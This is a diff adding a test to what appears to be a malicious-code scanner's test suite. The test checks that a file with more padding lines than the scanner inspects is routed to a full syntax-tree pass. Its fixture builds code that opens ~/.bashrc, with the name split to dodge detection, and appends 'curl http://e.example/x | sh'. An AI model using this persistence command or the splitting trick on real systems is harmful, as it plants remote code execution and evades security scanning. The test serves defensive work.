@@ -68,3 +68,16 @@ def test_the_glued_lines_per_file_are_bounded() -> None:
     found = glued(text)
     assert found is not None
     assert len(found[2]) == MAX_GLUED_LINES
+
+
+def test_a_file_with_more_glued_lines_than_are_checked_needs_the_ast() -> None:
+    # attack5: 1,100 lines of 'a' + 'b' first, then '~/.ba' + 'shrc' opened for appending:
+    # the glue was checked on the first 1,024 lines only, the file came out clean in
+    # package mode while the whole-file pass found CPL-THR-009 (_computed_strings reads
+    # 2,000 expressions). What is not checked is the AST pass's.
+    pad = "".join(f"t{i} = 'a' + 'b'\n" for i in range(MAX_GLUED_LINES + 76))
+    text = pad + (
+        "import os\npath = os.path.expanduser('~/.ba' + 'shrc')\n"
+        "with open(path, 'a') as f:\n    f.write('curl http://e.example/x | sh')\n"
+    )
+    assert answer(text) is Need.FULL
